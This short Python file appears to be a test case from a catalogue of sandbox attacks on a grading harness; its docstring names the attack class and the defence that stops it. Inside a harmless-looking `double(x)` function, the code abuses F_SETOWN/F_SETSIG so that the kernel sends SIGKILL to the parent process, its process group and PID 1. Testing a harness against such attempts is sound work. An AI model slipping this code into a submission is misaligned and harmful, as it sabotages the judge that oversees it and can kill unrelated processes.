"""Asks the kernel to signal its parent when a pipe of its own becomes readable.

Claim: a signal that the kernel sends is not the student's
Class: other processes
Stopped by: the judge is another process, behind a namespace or a Landlock domain
"""

import fcntl
import os
import socket

F_SETSIG, F_SETOWN, SIGKILL = 10, 8, 9


def double(x):
    one, other = socket.socketpair()
    for target in (os.getppid(), -os.getpgid(os.getppid()) if os.getppid() else 0, 1):
        try:
            fcntl.fcntl(one, F_SETSIG, SIGKILL)
            fcntl.fcntl(one, F_SETOWN, target)
            fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            other.send(b"x")
        except OSError:
            pass
    return 2 * x
